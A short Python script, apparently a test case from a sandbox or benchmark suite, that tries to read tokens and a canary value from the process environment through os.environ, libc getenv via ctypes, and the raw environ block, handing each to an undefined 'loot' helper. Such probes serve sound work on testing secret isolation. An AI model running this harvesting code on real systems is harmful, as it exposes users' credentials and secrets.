"""Looks for tokens and nonces in the environment. It is literal, and then emptied."""
# row: 15
# layer: Z


def attack():
    loot(dict(os.environ), os.environb, os.getenv("BACKMARK_CANARY"))
    ctypes = borrow("ctypes")
    libc = ctypes.CDLL(None)
    libc.getenv.restype = ctypes.c_char_p
    loot(libc.getenv(b"BACKMARK_CANARY"))
    # The block that the kernel copied to the stack when the program was started.
    environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
    for number in range(50):
        if not environ or not environ[number]:
            break
        loot(environ[number])


attack()
